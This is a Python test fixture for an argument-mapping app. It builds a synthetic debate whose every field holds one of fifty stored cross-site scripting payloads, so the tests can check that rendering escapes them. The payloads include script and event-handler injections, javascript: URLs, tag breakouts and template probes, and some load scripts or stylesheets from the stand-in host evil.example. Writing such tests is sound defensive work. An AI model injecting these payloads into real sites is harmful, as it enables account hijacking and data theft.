"""Texts that would do harm where they were taken for more than text, and a debate that has them everywhere.

Where the checks of injection are kept, by the numbers that they were planned under:

    A1   10,800 generated strings drawn as written           tests/render/test_many_hostile.py, tests/render/test_hostile.py
    A2   a label and a tooltip that work together            tests/render/test_hostile.py
    A3   a file that a text names is not read                tests/render/test_many_hostile.py
    A4   addresses that run, refused at input                tests/core/test_fields.py, tests/models/test_validation.py,
             by the admin, each importer, the API            tests/admin/test_editing.py, tests/formats/test_hostile.py
             and at output, whatever the database holds      tests/web/test_hostile.py
    A5   control characters, surrogates, 100 kB              tests/api/test_unprintable.py, tests/admin/test_hostile.py
    A6   listed elements and attributes in every picture     tests/web/test_pictures.py
    A7   stored scripts on every page, in Chromium           tests/browser/test_hostile.py
    A8   headers of a picture opened by itself               tests/api/test_files.py
    A9   templates and format strings stay as written        tests/web/test_hostile.py
    A10  hidden characters shown                             tests/admin/test_history.py, tests/admin/test_importing_page.py
"""

from argmap.core.anchor import CONTEXT_LENGTH
from argmap.core.debate import Debate
from argmap.core.kinds import (
    ActorKind,
    AffiliationKind,
    ClaimKind,
    End,
    EvidenceKind,
    Position,
    RelationKind,
    Reporter,
)
from argmap.core.limits import LENGTHS
from argmap.core.records import (
    About,
    Actor,
    Affiliation,
    Argument,
    Claim,
    Condition,
    Evidence,
    Group,
    Inference,
    Issue,
    Passage,
    Premise,
    Relation,
    Source,
    Stance,
    Stop,
    Tour,
)
from argmap.core.standing import Options
from argmap.core.text import strip_unprintable
from argmap.core.view import View, write_state

_SCRIPT = "<script xss>alert(1)</script>"
PAYLOADS = (
    # Elements of their own, each with the attribute `xss`, so that one that came to be is found.
    _SCRIPT,
    "<ScRiPt xss>alert(1)</sCrIpT>",
    "<script xss src=//evil.example/x.js></script>",
    "<img xss src=x onerror=alert(1)>",
    "<IMG XSS SRC=x ONERROR=alert(1)//",
    "<img/xss/src=x/onerror=alert(1)>",
    "<svg xss onload=alert(1)>",
    "<svg xss><script>alert(1)</script></svg>",
    "<svg xss><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body xss onload=alert(1)>",
    "<iframe xss src=javascript:alert(1)></iframe>",
    "<iframe xss srcdoc='<script>alert(1)</script>'></iframe>",
    "<object xss data=javascript:alert(1)></object>",
    "<embed xss src=javascript:alert(1)>",
    "<details xss open ontoggle=alert(1)>x</details>",
    "<input xss autofocus onfocus=alert(1)>",
    "<video xss><source onerror=alert(1)></video>",
    "<a xss href=javascript:alert(1)>x</a>",
    "<a xss href=jav&#x09;ascript:alert(1)>x</a>",
    "<form xss action=//evil.example><button>x</button></form>",
    "<button xss formaction=javascript:alert(1)>x</button>",
    "<base xss href=//evil.example/>",
    "<link xss rel=stylesheet href=//evil.example/x.css>",
    "<style xss>@import '//evil.example/x.css';</style>",
    "<meta xss http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<math xss><mtext><script>alert(1)</script></mtext></math>",
    "<template xss><script>alert(1)</script></template>",
    "<noscript xss><p title='</noscript><img xss src=x onerror=alert(1)>'>",
    # Ways out of an attribute, of an element whose content is no markup, and of a comment.
    f"'>{_SCRIPT}",
    f'">{_SCRIPT}',
    '" autofocus onfocus=alert(1) xss="',
    "' autofocus onfocus=alert(1) xss='",
    "` onmouseover=alert(1) xss=`",
    f"</title>{_SCRIPT}",
    f"</textarea>{_SCRIPT}",
    f"</option></select>{_SCRIPT}",
    f"</style>{_SCRIPT}",
    f"</script>{_SCRIPT}",
    f"</text></svg>{_SCRIPT}",
    f"--><!-- -->{_SCRIPT}",
    f"]]>{_SCRIPT}",
    # What other readers than HTML's would take for more.
    "&lt;script xss&gt;alert(1)&lt;/script&gt;",
    "&#60;img xss src=x onerror=alert(1)&#62;",
    "\\x3cscript xss\\x3ealert(1)\\x3c/script\\x3e",
    "javascript:alert(1)//",
    "[a](javascript:alert(1)) ![b](x) <javascript:alert(1)>",
    "'-alert(1)-' \";alert(1)// ${alert(1)} $& $1 $'",
    "{{7*7}} {% now 'Y' %} %(x)s {0.__class__} {key} #{7*7}",
    '"]; evil [URL="javascript:alert(1)"] // \\',
    "<<TABLE><TR><TD HREF='javascript:alert(1)'><B XSS>x</B></TD></TR></TABLE>>",
)
"""Fifty texts of stored cross-site scripting, each short enough for a passage's locator."""


def make_hostile_debate(texts=PAYLOADS, *, slug="hostile"):
    """A debate with as many records of each kind as there are texts: the n-th has the n-th text in each text and in its key.

    The question is the first text, the summary all of them. The first few claims are the reasons' conclusions.
    """
    numbers = range(len(texts))
    keys = [f"{number}{text.strip()}"[: LENGTHS["key"]] for number, text in enumerate(texts)]
    free = [{"tags": (text,), "extra": {text: [text, {text: text}]}} for text in texts]

    def next_key(number):
        return keys[(number + 1) % len(keys)]

    return Debate(
        about=About(
            slug=slug, question=texts[0], summary="\n".join(texts), language=texts[0][: LENGTHS["language"]], **free[0]
        ),
        groups=tuple(Group(key=keys[n], title=texts[n], summary=texts[n], **free[n]) for n in numbers),
        issues=tuple(
            Issue(key=keys[n], question=texts[n], positions=(keys[n],), group=keys[n % 5], **free[n]) for n in numbers
        ),
        claims=tuple(
            Claim(
                key=keys[n],
                title=texts[n],
                text=texts[n],
                kind=[*ClaimKind][n % 5],
                group=keys[n % 5],
                position=n,
                passages=(keys[n],),
                **free[n],
            )
            for n in numbers
        ),
        arguments=tuple(make_argument(n, keys, texts[n], free[n]) for n in numbers),
        relations=tuple(make_relation(n, keys, free[n]) for n in numbers),
        actors=tuple(
            Actor(key=keys[n], name=texts[n], kind=[*ActorKind][n % 3], description=texts[n], **free[n]) for n in numbers
        ),
        affiliations=tuple(
            Affiliation(key=keys[n], actor=keys[n], kind=AffiliationKind.MEMBER_OF, body=next_key(n), **free[n])
            for n in numbers
        ),
        stances=tuple(
            Stance(
                key=keys[n],
                actor=keys[n],
                position=Position.CONDITIONAL,
                claim=keys[n % 7],
                gist=texts[n],
                conditions=(Condition(claim=next_key(n)),),
                reported_by=next_key(n),
                reported_by_kind=Reporter.SOURCE,
                said_on=f"20{n % 20:02}",
                venue=texts[n],
                passages=(keys[n],),
                **free[n],
            )
            for n in numbers
        ),
        sources=tuple(make_source(keys[n], texts[n], free[n]) for n in numbers),
        passages=tuple(make_passage(keys[n], texts[n], free[n]) for n in numbers),
        evidence=tuple(
            Evidence(key=keys[n], claim=keys[n], passage=keys[n], kind=[*EvidenceKind][n % 4], gist=texts[n], **free[n])
            for n in numbers
        ),
        tours=tuple(make_tour(keys[n], texts[n], next_key(n), free[n]) for n in numbers),
    )


def make_tour(key, text, other, free):
    """A tour of one stop, at which a claim is seen by an actor."""
    # An address has no place for what cannot be printed.
    named = strip_unprintable(other)
    view = write_state(Options(lens=named), View(opened=(named,)))
    stop = Stop(key=key, text=text if text.strip() else "?", focus=key, focus_kind=End.CLAIM, view=view, **free)
    return Tour(key=key, title=text, text=text, stops=(stop,), **free)


def make_argument(number, keys, text, free):
    """The first ten unfold; the others are boxes of the map."""
    if number >= 10:
        return Argument(key=keys[number], title=text, gist=text, **free)
    premise = Premise(key=f"p{keys[number]}"[:200], claim=keys[(number + 5) % len(keys)], role=text.strip(), **free)
    inference = Inference(key=f"i{keys[number]}"[:200], conclusion=keys[number % 5], scheme=text, premises=(premise,), **free)
    return Argument(key=keys[number], title=text, gist=text, inferences=(inference,), **free)


def make_relation(number, keys, free):
    """A reason for or against one of the first claims; the first few come from arguments that do not unfold."""
    is_argument = number < 5 and len(keys) > 20
    kind = RelationKind.SUPPORTS if number % 2 else RelationKind.ATTACKS
    return Relation(
        key=keys[number],
        kind=kind,
        source=keys[number + 15] if is_argument else keys[number],
        target=keys[number % 5],
        source_kind=End.ARGUMENT if is_argument else End.CLAIM,
        **free,
    )


def make_source(key, text, free):
    """A source whose full text is what the passage quotes, with the same before and after it."""
    return Source(
        key=key,
        title=text,
        type=text[: LENGTHS["type"]],
        authors=(text,),
        container_title=text,
        publisher=text,
        issued="2020",
        language=text[: LENGTHS["language"]],
        url="https://example.org/",
        text=text * 3,
        csl={text: text},
        **free,
    )


def make_passage(key, text, free):
    return Passage(
        key=key,
        source=key,
        locator=text[: LENGTHS["locator"]],
        exact=text,
        prefix=text[-CONTEXT_LENGTH:],
        suffix=text[:CONTEXT_LENGTH],
        start=len(text),
        end=2 * len(text),
        **free,
    )
